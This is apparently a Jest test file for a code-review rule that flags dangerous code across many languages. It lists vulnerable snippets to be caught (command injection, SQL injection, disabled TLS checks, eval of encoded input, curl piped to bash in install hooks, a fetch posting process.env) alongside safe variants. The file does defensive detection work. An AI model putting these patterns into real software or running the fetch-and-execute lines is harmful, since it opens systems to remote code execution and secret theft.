// Dangerous code in several languages, and its harmless neighbours.
// biome-ignore-all lint/suspicious/noTemplateCurlyInString: the samples are code.
import { describe, expect, test } from '@jest/globals';
import { dangerousCode } from '../../../action/src/review-pr/rules/code/dangerous-code.ts';
import { type Files, findings, places } from './change.ts';

const child = `import { exec, execSync, spawn, execFile } from 'node:child_process';\n`;

describe('found', () => {
  test.each([
    ['eval', 'src/a.ts', 'const x = eval(input);', 'critical'],
    ['window.eval', 'a.js', 'window.eval(code)', 'critical'],
    ['indirect eval', 'a.js', '(0, eval)(code);', 'critical'],
    ['new Function', 'a.js', "const f = new Function('a', body);", 'critical'],
    ['timer with text', 'a.js', 'setTimeout("run(" + x + ")", 10);', 'critical'],
    ['tls', 'a.ts', 'const agent = new https.Agent({ rejectUnauthorized: false });', 'critical'],
    ['tls by environment', 'a.ts', "process.env.NODE_TLS_REJECT_UNAUTHORIZED = '0';", 'critical'],
    ['tls by environment, bracket', 'a.ts', "process.env['NODE_TLS_REJECT_UNAUTHORIZED'] = '0';", 'critical'],
    [
      'tls in a script of npm',
      'package.json',
      '{"scripts": {\n"start": "NODE_TLS_REJECT_UNAUTHORIZED=0 node ."}}',
      'critical',
      2,
    ],
    ['innerHTML', 'a.js', 'list.innerHTML = `<li>${todo.title}</li>`;', 'major'],
    ['innerHTML +=', 'a.js', "list.innerHTML += '<li>' + todo.title + '</li>';", 'major'],
    ['dangerouslySetInnerHTML', 'a.tsx', 'return <div dangerouslySetInnerHTML={{ __html: props.text }} />;', 'major'],
    ['document.write', 'a.js', 'document.write(location.hash);', 'major'],
    ['v-html', 'a.vue', '<p v-html="comment.text"></p>', 'major'],
    ['sql template', 'a.ts', 'await db.query(`SELECT * FROM users WHERE id = ${id}`);', 'major'],
    ['sql concatenation', 'a.ts', `db.all("SELECT * FROM users WHERE name = '" + name + "'", done);`, 'major'],
    ['sql in a variable', 'a.ts', 'const sql = `DELETE FROM todos WHERE id = ${id}`;', 'major'],
    ['random token', 'a.ts', 'const sessionToken = Math.random().toString(36).slice(2);', 'major'],
    ['random token in a function', 'a.ts', 'const createToken = () => Math.random().toString(36);', 'major'],
    ['md5 for passwords', 'a.ts', "const hash = createHash('md5').update(password).digest('hex');", 'major'],
    ['jwt none', 'a.ts', "jwt.verify(token, key, { algorithms: ['none'] });", 'critical'],
    ['path of a request', 'a.ts', 'res.sendFile(path.join(root, req.params.name));', 'major'],
    ['fetch of a request', 'a.ts', 'const r = await fetch(req.query.url);', 'major'],
    ['redirect of a request', 'a.ts', 'res.redirect(req.query.next);', 'major'],
    ['hidden code', 'a.js', "eval(atob('YWxlcnQoMSk='));", 'critical'],
    ['hidden code in a test', 'test/a.test.js', "eval(atob('YWxlcnQoMSk='));", 'critical'],
    ['electron', 'main.ts', 'webPreferences: { nodeIntegration: true }', 'major'],
    ['environment', 'a.ts', 'fetch(u, { method: "POST", body: JSON.stringify(process.env) });', 'critical'],
    ['eval, asked for first', 'a.js', 'export const f = (t) => eval?.(t);', 'critical'],
    [
      'a required module',
      'a.js',
      "exports.log = (b, cb) => require('child_process').exec('git log ' + b, cb);",
      'critical',
    ],
    [
      'a page from an address',
      'a.js',
      "at('#title').innerHTML = '<b>' + unescape(location.hash.slice(1)) + '</b>';",
      'major',
    ],
    [
      'python shell in a list',
      'a.py',
      "subprocess.run(['sh', '-c', f'convert {name} out.png'], check=True)",
      'critical',
    ],
    ['python shell in place', 'a.py', "os.execl('/bin/sh', 'sh', '-c', f'convert {name}')", 'critical'],
    [
      'java trusts all over lines',
      'A.java',
      '  public void checkServerTrusted(X509Certificate[] chain, String type) {\n  }\n',
      'critical',
    ],
    [
      'java trusts all after a word',
      'A.java',
      '  public void checkServerTrusted(X509Certificate[] chain, String type) {\n    // all are fine\n    return;\n  }\n',
      'critical',
    ],
    ['java trusts all names', 'A.java', 'HttpsURLConnection.setDefaultHostnameVerifier((h, s) -> true);', 'critical'],
    ['kotlin sql', 'A.kt', `fun f(name: String) = db.query("SELECT * FROM users WHERE name = '$name'")`, 'major'],
    ['dart tls', 'a.dart', 'HttpClient()..badCertificateCallback = (cert, host, port) => true;', 'critical'],
    ['c# shell', 'A.cs', 'Process.Start(new ProcessStartInfo("cmd.exe", $"/c git log {branch}"));', 'critical'],
    [
      'go sql with a table and a value',
      'a.go',
      `q := fmt.Sprintf("SELECT * FROM %s WHERE id = '%s'", s.tableName, id)`,
      'major',
    ],
    ['python eval', 'a.py', 'result = eval(request.args["q"])', 'critical'],
    ['python exec', 'a.py', 'exec(code)', 'critical'],
    ['os.system', 'a.py', 'os.system(f"ping {host}")', 'critical'],
    ['os.system with a variable', 'a.py', 'os.system("rm -rf " + path)', 'critical'],
    ['subprocess', 'a.py', 'subprocess.run(f"git log {branch}", shell=True)', 'critical'],
    ['subprocess with a variable', 'a.py', 'subprocess.check_output(cmd, shell=True)', 'critical'],
    ['pickle', 'a.py', 'data = pickle.loads(body)', 'critical'],
    ['yaml.load', 'a.py', 'data = yaml.load(stream)', 'critical'],
    ['requests', 'a.py', 'requests.get(url, verify=False)', 'critical'],
    ['unverified context', 'a.py', 'ctx = ssl._create_unverified_context()', 'critical'],
    ['python sql', 'a.py', 'cursor.execute(f"SELECT * FROM users WHERE id = {user_id}")', 'major'],
    ['python sql %', 'a.py', `cursor.execute("SELECT * FROM users WHERE name = '%s'" % name)`, 'major'],
    ['python sql format', 'a.py', 'cursor.execute("SELECT * FROM users WHERE id = {}".format(user_id))', 'major'],
    ['flask debug', 'app.py', 'app.run(host="0.0.0.0", debug=True)', 'major'],
    ['template string', 'app.py', 'return render_template_string("<h1>" + name)', 'major'],
    ['mark_safe', 'a.py', 'return mark_safe(comment.text)', 'major'],
    ['tempfile', 'a.py', 'path = tempfile.mktemp()', 'major'],
    ['ruby system', 'a.rb', 'system("convert #{file} out.png")', 'critical'],
    ['ruby backticks', 'a.rb', 'out = `git log #{branch}`', 'critical'],
    ['ruby eval', 'a.rb', 'eval(params[:code])', 'critical'],
    ['ruby send', 'a.rb', 'user.send(params[:method])', 'critical'],
    ['ruby Marshal', 'a.rb', 'Marshal.load(cookie)', 'major'],
    ['ruby tls', 'a.rb', 'http.verify_mode = OpenSSL::SSL::VERIFY_NONE', 'critical'],
    ['ruby where', 'a.rb', `User.where("name = '#{params[:name]}'")`, 'major'],
    ['ruby html_safe', 'a.rb', 'comment.body.html_safe', 'major'],
    ['php eval', 'a.php', '<?php eval($code);', 'critical'],
    ['php system', 'a.php', '<?php system("ping " . $_GET["host"]);', 'critical'],
    ['php shell_exec', 'a.php', '<?php $out = shell_exec("ls $dir");', 'critical'],
    ['php unserialize', 'a.php', '<?php $a = unserialize($_COOKIE["a"]);', 'critical'],
    ['php include', 'a.php', '<?php include $_GET["page"];', 'critical'],
    ['php curl', 'a.php', '<?php curl_setopt($ch, CURLOPT_SSL_VERIFYPEER, false);', 'critical'],
    ['php sql', 'a.php', '<?php $db->query("SELECT * FROM users WHERE id = $id");', 'major'],
    ['php echo', 'a.php', '<?php echo $_GET["name"];', 'major'],
    ['go shell', 'a.go', 'cmd := exec.Command("sh", "-c", "ping "+host)', 'critical'],
    ['go tls', 'a.go', 'cfg := &tls.Config{InsecureSkipVerify: true}', 'critical'],
    ['go sql', 'a.go', `rows, err := db.Query(fmt.Sprintf("SELECT * FROM users WHERE id = %s", id))`, 'major'],
    ['rust shell', 'a.rs', 'Command::new("sh").arg("-c").arg(format!("ping {}", host)).output()?;', 'critical'],
    ['rust tls', 'a.rs', 'let c = Client::builder().danger_accept_invalid_certs(true).build()?;', 'critical'],
    ['java exec', 'A.java', 'Runtime.getRuntime().exec("ping " + host);', 'critical'],
    ['curl to shell', 'install.sh', 'curl -fsSL https://get.example.com | sh', 'critical'],
    ['curl to sudo bash', 'Dockerfile', 'RUN curl -fsSL https://deb.example.com/setup | sudo -E bash -', 'critical'],
    [
      'curl to shell in a manifest',
      'package.json',
      '{ "scripts": { "postinstall": "curl https://a.example/x.sh | bash" } }',
      'critical',
    ],
    ['curl in a workflow', 'ci.yml', '      - run: wget -qO- https://a.example/x | bash', 'critical'],
    ['curl -k', 'deploy.sh', 'curl -k https://api.example.com/health', 'critical'],
    ['eval in a shell', 'a.sh', 'eval "$1"', 'critical'],
    ['rm', 'a.sh', 'rm -rf "$DIR"/*', 'major'],
    ['chmod', 'a.sh', 'chmod -R 777 /var/www', 'major'],
    ['ssh', 'a.sh', 'ssh -o StrictHostKeyChecking=no host', 'major'],
    [
      'workflow',
      'ci.yml',
      'jobs:\n  a:\n    runs-on: x\n    steps:\n      - run: echo "${{ github.event.issue.title }}"',
      'critical',
      5,
    ],
    ['privileged', 'compose.yml', '    privileged: true', 'major'],
    ['yaml tag', 'a.yml', 'a: !!python/object/apply:os.system ["ls"]', 'critical'],
    ['grant', 'a.sql', 'GRANT ALL PRIVILEGES ON DATABASE app TO PUBLIC;', 'major'],
    ['npmrc', '.npmrc', 'strict-ssl=false', 'critical'],
    ['an attribute of a page', 'a.html', '<button onclick="eval(this.value)">', 'critical'],
  ] as [string, string, string, string, number?][])('%s', async (_, path, text, severity, line = 1) => {
    expect(await places(dangerousCode, { [path]: text })).toEqual([`${severity} ${path}:${line}`]);
  });

  test.each([
    ['a template', 'exec(`git log ${branch}`, done);', 2],
    ['a concatenation', "execSync('git log ' + branch);", 2],
    ['over lines', 'execSync(\n  `git log ${branch}`,\n  { cwd },\n);', 2],
    ['a variable', 'const command = `git log ${branch}`;\nexec(command, done);', 3],
    ['spawn with a shell', 'spawn(`git log ${branch}`, { shell: true });', 2],
    ['spawn of a shell', "spawn('sh', ['-c', `git log ${branch}`]);", 2],
    ['a request', 'exec(req.query.command);', 2],
  ])('a shell command from %s', async (_, text, line) => {
    expect(await places(dangerousCode, { 'src/a.ts': child + text })).toEqual([`critical src/a.ts:${line}`]);
  });
});

const pay =
  'function pay(url) {\n  const agent = {\n    rejectUnauthorized: false,\n  };\n  return fetch(url, { agent });\n}\n';

describe('new here, though another place loses the same line', () => {
  test.each<[string, Files, string]>([
    [
      'a setting of development',
      {
        'config/dev.js': ['export default {\n  rejectUnauthorized: false,\n};\n', 'export default {\n};\n'],
        'config/production.js': ['export default {\n};\n', 'export default {\n  rejectUnauthorized: false,\n};\n'],
      },
      'critical config/production.js:2',
    ],
    [
      'an example of a document',
      {
        'README.md': ['```py\nverify=False,\n```\n', '# x\n'],
        'app/pay.py': ['requests.post(\n    url,\n)\n', 'requests.post(\n    url,\n    verify=False,\n)\n'],
      },
      'critical app/pay.py:3',
    ],
    ['a document that is deleted', { 'docs/a.md': [pay, null], 'src/a.js': pay }, 'critical src/a.js:3'],
    ['a test that is deleted', { 'test/a.test.js': [pay, null], 'src/a.js': pay }, 'critical src/a.js:3'],
    [
      'a line of a file that is deleted',
      { 'src/b.js': [pay, null], 'src/a.js': 'const agent = make({\n    rejectUnauthorized: false,\n});\n' },
      'critical src/a.js:2',
    ],
    ['a comment of the file', { 'src/a.js': ['/*\neval(x);\n*/\nb();\n', 'b();\neval(x);\n'] }, 'critical src/a.js:2'],
  ])('%s', async (_, files, place) => {
    expect(await places(dangerousCode, files)).toEqual([place]);
  });
});

describe('far to the right', () => {
  const far = ' '.repeat(2_001);
  test.each([
    ['after spaces', `export const a = 4;${far}eval(location.hash.slice(1));\n`, ['critical src/a.js:1']],
    [
      'after a long value',
      `export const a = '${'a1B+'.repeat(2_000)}'; eval(location.hash);\n`,
      ['critical src/a.js:1'],
    ],
    [
      'after a drawing',
      `export const a = <path d="M10.5 2l-3,4 z${'M1 2c-.3.4-1 2-3 4'.repeat(300)}" onClick={() => eval(x)} />;\n`,
      ['critical src/a.js:1'],
    ],
    ['after much code', `const a = [${'f(a) + '.repeat(400)}eval(location.hash)];\n`, ['major src/a.js:1']],
    [
      'in a statement of many lines',
      `const a = [\n${`  f${'(a) + g'.repeat(20)},\n`.repeat(35)}  eval(b),\n];\n`,
      ['critical src/a.js:37'],
    ],
    ['a long value alone', `export const a = '${'a1B+'.repeat(2_000)}';\n`, []],
  ])('%s', async (_, text, expected) => {
    expect(await places(dangerousCode, { 'src/a.js': text })).toEqual(expected);
  });

  test.each([
    ['dist/a.js', `const a = [${'f(a), '.repeat(400)}];\n`],
    ['test/a.test.js', `const a = [${'f(a), '.repeat(400)}];\n`],
    ['db/seed.sql', `INSERT INTO a VALUES ${"(1, 'b'), ".repeat(400)};\n`],
    ['docs/a.md', `${'Some words. '.repeat(400)}\n`],
  ])('much of it in %s', async (path, text) => {
    expect(await places(dangerousCode, { [path]: text })).toEqual([]);
  });

  test('a line that was that long before', async () => {
    const long = `const a = [${'f(a), '.repeat(400)}];\n`;
    expect(await places(dangerousCode, { 'src/a.js': [long, `const b = 1;\n${long}`] })).toEqual([]);
  });
});

test.each([
  ['another name', "import { exec as run } from 'node:child_process';", 'run(`git log ${b}`);'],
  ['a name for all', "import * as proc from 'child_process';", 'proc.execSync(`git log ${b}`);'],
  ['a default', "import proc from 'node:child_process';", "proc.exec('git log ' + b);"],
  ['a required module', "const proc = require('child_process');", 'proc.exec(`git log ${b}`);'],
  ['a required function', "const { exec: run } = require('child_process');", 'run(`git log ${b}`);'],
  ['a property', "const run = require('child_process').execSync;", 'run(`git log ${b}`);'],
  [
    'a promise',
    "import { exec } from 'node:child_process';\nconst run = promisify(exec);",
    'const a = await run(`git log ${b}`);',
  ],
  [
    'a promise of a property',
    "import * as proc from 'node:child_process';\nconst run = util.promisify(proc.exec);",
    'const a = await run(`git log ${b}`);',
  ],
  ['a variable', "import { exec as run } from 'node:child_process';\nconst c = `git log ${b}`;", 'run(c);'],
])('a function that runs commands, by %s', async (_, names, call) => {
  const line = names.split('\n').length + 1;
  expect(await places(dangerousCode, { 'src/a.ts': `${names}\n${call}\n` })).toEqual([`critical src/a.ts:${line}`]);
});

describe('left alone', () => {
  test.each([
    ['evaluate', 'a.ts', 'await page.evaluate(() => document.title);'],
    ['$eval', 'a.ts', "await page.$eval('h1', (e) => e.textContent);"],
    ['a name', 'a.ts', 'const medieval = retrieval(x);'],
    ['a method called eval', 'a.py', 'model.eval()'],
    ['a definition', 'a.ts', 'class A { eval(x: string) { return parse(x); } }'],
    ['a comment', 'a.ts', '// never use eval(input) here'],
    ['a comment at the end', 'a.ts', 'const a = 1; // not eval(x)'],
    ['a string', 'a.ts', "const message = 'do not call eval(x)';"],
    ['a document', 'README.md', 'Use `eval(x)` never.'],
    ['a string of a test', 'test/a.test.ts', "expect(check('eval(x)')).toBe(false);"],
    ['tls off in a test', 'test/a.test.ts', 'const agent = new https.Agent({ rejectUnauthorized: false });'],
    ['a docstring', 'a.py', '"""\nNever call eval(x) or os.system(f"{x}").\n"""'],
    ['tls on', 'a.ts', 'const agent = new https.Agent({ rejectUnauthorized: true });'],
    ['regular expression', 'a.ts', 'const match = /a(b)/.exec(`x${y}`);'],
    ['a list by another name', 'a.ts', "import { execFile as run } from 'node:child_process';\nrun('git', [`${a}`]);"],
    ['constant by another name', 'a.ts', "import { exec as run } from 'node:child_process';\nrun('git log');"],
    ['another thing of the same name', 'a.ts', "import { run } from './run.js';\nexport const a = run(`git ${b}`);"],
    ['a page that is escaped', 'a.js', "at('#title').innerHTML = '<b>' + escape(name) + '</b>';"],
    ['python shell, constant', 'a.py', "subprocess.run(['sh', '-c', 'ls | wc -l'], check=True)"],
    ['java checks', 'A.java', '  void checkServerTrusted(X509Certificate[] c, String t) {\n    other.check(c);\n  }\n'],
    ['java checks names', 'A.java', 'HttpsURLConnection.setDefaultHostnameVerifier((h, s) -> h.equals(name));'],
    ['kotlin constant table', 'A.kt', 'db.query("SELECT * FROM $TABLE WHERE name = ?", name)'],
    ['c# constant', 'A.cs', 'Process.Start(new ProcessStartInfo("cmd.exe", "/c git log"));'],
    ['dart checks', 'a.dart', 'client.badCertificateCallback = (cert, host, port) => host == known;'],
    ['go table only', 'a.go', 'q := fmt.Sprintf("SELECT * FROM %s WHERE id = $1", s.tableName)'],
    ['regular expression by name', 'a.ts', 'const match = pattern.exec(`x${y}`);'],
    ['execFile', 'a.ts', `${child}execFile('git', ['log', branch], done);`],
    ['constant command', 'a.ts', `${child}execSync('npm run build');`],
    ['constants of the program', 'a.ts', `${child}execSync(\`node \${__dirname}/a.js\`);`],
    ['zx', 'a.mjs', 'await $`git log ${branch}`;'],
    ['spawn with a list', 'a.ts', `${child}spawn('git', ['log', branch]);`],
    ['textContent', 'a.js', 'list.textContent = `Hello ${name}`;'],
    ['innerHTML emptied', 'a.js', "list.innerHTML = '';"],
    ['innerHTML constant', 'a.js', 'list.innerHTML = `<li class="empty">Nothing</li>`;'],
    ['innerHTML cleaned', 'a.js', 'box.innerHTML = DOMPurify.sanitize(html);'],
    ['cleaned in React', 'a.tsx', '<div dangerouslySetInnerHTML={{ __html: DOMPurify.sanitize(text) }} />'],
    ['sql placeholders', 'a.ts', "await db.query('SELECT * FROM users WHERE id = ?', [id]);"],
    ['sql tag', 'a.ts', 'await sql`SELECT * FROM users WHERE id = ${id}`;'],
    ['prisma', 'a.ts', 'await prisma.$queryRaw`SELECT * FROM users WHERE id = ${id}`;'],
    ['sql list of marks', 'a.ts', "db.all(`SELECT * FROM t WHERE id IN (${ids.map(() => '?').join(',')})`, ids);"],
    ['sql constant table', 'a.ts', 'db.all(`SELECT * FROM ${TABLE} WHERE id = ?`, id);'],
    ['a sentence', 'a.ts', 'log.info(`Update ${name} from the list`);'],
    ['select in a sentence', 'a.ts', 'const text = `Select one of ${count} from the list`.trim();'],
    ['random colour', 'a.ts', 'const color = colors[Math.floor(Math.random() * colors.length)];'],
    ['random id', 'a.ts', 'const itemId = Math.random().toString(36);'],
    ['crypto token', 'a.ts', 'const token = crypto.randomBytes(32).toString("hex");'],
    ['md5 for a cache', 'a.ts', "const etag = createHash('md5').update(body).digest('hex');"],
    ['timer with a function', 'a.js', 'setTimeout(() => run(x), 10);'],
    ['timer with a name', 'a.js', 'setTimeout(run, 10, "a");'],
    ['JSON', 'a.js', 'const a = JSON.parse(text);'],
    ['literal_eval', 'a.py', 'ast.literal_eval(text)'],
    ['safe_load', 'a.py', 'yaml.safe_load(stream)'],
    ['yaml.load with a safe loader', 'a.py', 'yaml.load(stream, Loader=yaml.SafeLoader)'],
    ['subprocess list', 'a.py', 'subprocess.run(["git", "log", branch], check=True)'],
    ['subprocess constant', 'a.py', 'subprocess.run("ls -l | wc -l", shell=True)'],
    ['os.system constant', 'a.py', "os.system('clear')"],
    ['verify on', 'a.py', 'requests.get(url, verify=True)'],
    ['python placeholders', 'a.py', 'cursor.execute("SELECT * FROM users WHERE id = %s", (user_id,))'],
    ['python execute', 'a.py', 'executor.exec_command(x)'],
    ['ruby list', 'a.rb', 'system("convert", file, "out.png")'],
    ['ruby where', 'a.rb', 'User.where(name: params[:name])'],
    ['ruby placeholders', 'a.rb', 'User.where("name = ?", params[:name])'],
    ['ruby send constant', 'a.rb', 'user.send(:rename)'],
    ['php prepared', 'a.php', '<?php $s = $db->prepare("SELECT * FROM users WHERE id = ?");'],
    ['php escaped', 'a.php', '<?php echo htmlspecialchars($_GET["name"]);'],
    ['php escapeshellarg', 'a.php', '<?php system("ping " . escapeshellarg($host));'],
    ['php method', 'a.php', '<?php $this->db->exec($statement);'],
    ['go list', 'a.go', 'cmd := exec.Command("git", "log", branch)'],
    ['go placeholders', 'a.go', 'db.Query("SELECT * FROM users WHERE id = $1", id)'],
    ['rust args', 'a.rs', 'Command::new("git").arg("log").arg(branch).output()?;'],
    ['curl to a file', 'a.sh', 'curl -fsSL https://a.example/x.tar.gz -o x.tar.gz'],
    ['curl to jq', 'a.sh', 'curl -s https://a.example/x | jq .name'],
    ['eval of a known tool', 'a.sh', 'eval "$(ssh-agent -s)"'],
    ['rm of a folder', 'a.sh', 'rm -rf dist coverage'],
    ['rm of a guarded folder', 'a.sh', 'rm -rf "${DIR:?}"/*'],
    ['chmod +x', 'a.sh', 'chmod 755 run.sh'],
    [
      'workflow by environment',
      'ci.yml',
      'jobs:\n  a:\n    runs-on: x\n    steps:\n      - env:\n          TITLE: ${{ github.event.issue.title }}\n        run: echo "$TITLE"',
    ],
    ['grant to a role', 'a.sql', 'GRANT SELECT ON todos TO reader;'],
    ['redis eval', 'a.ts', 'await redis.eval(script, 1, key);'],
    ['hex', 'a.ts', "const bom = '\\xef\\xbb\\xbf';"],
    ['an import', 'a.ts', "import { evaluate } from 'mathjs';"],
  ])('%s', async (_, path, text) => {
    expect(await places(dangerousCode, { [path]: text })).toEqual([]);
  });

  test.each<[string, Files]>([
    ['a file has another name', { 'a.js': [`${pay}`, null], 'b.js': pay }],
    ['a file has another name and other words', { 'a.js': [pay, null], 'b.js': `const c = 1;\n${pay}\nb();\n` }],
    ['a short file has another name', { 'a.js': ['eval(x);\n', null], 'b.ts': 'eval(x);\n' }],
  ])('what was there before: %s', async (_, files) => {
    expect(await places(dangerousCode, files)).toEqual([]);
  });

  test('what was there before and is only indented', async () => {
    expect(await places(dangerousCode, { 'a.ts': ['eval(x);\n', 'if (y) {\n  eval(x);\n}\n'] })).toEqual([]);
  });
});

test.each([
  ['a.ts', 'const a = { rejectUnauthorized: false };', 'const a = { rejectUnauthorized: true };'],
  ['a.py', 'requests.get(url, verify=False)', 'requests.get(url, verify=True)'],
  ['a.go', 'cfg := &tls.Config{InsecureSkipVerify: true}', 'cfg := &tls.Config{InsecureSkipVerify: false}'],
  ['a.rb', 'http.verify_mode = OpenSSL::SSL::VERIFY_NONE', 'http.verify_mode = OpenSSL::SSL::VERIFY_PEER'],
])('%s: the repair is suggested', async (path, text, suggestion) => {
  expect((await findings(dangerousCode, { [path]: text }))[0]?.suggestion).toBe(suggestion);
});
